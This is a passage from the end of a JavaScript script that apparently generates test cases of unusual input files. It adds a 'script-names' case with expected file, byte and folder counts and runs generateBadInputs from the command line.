		cases.push({ name: 'script-names', files, expect: { kpis: { files: texts.length, bytes: 150, folders: texts.length } } });
	}
	return cases;
}

if (import.meta.url === `file://${process.argv[1]}`) {
	const i = process.argv.indexOf('--out');
	const manifest = await generateBadInputs(i > 0 ? process.argv[i + 1] : undefined);
	console.log(`${manifest.cases.length} cases`);
}
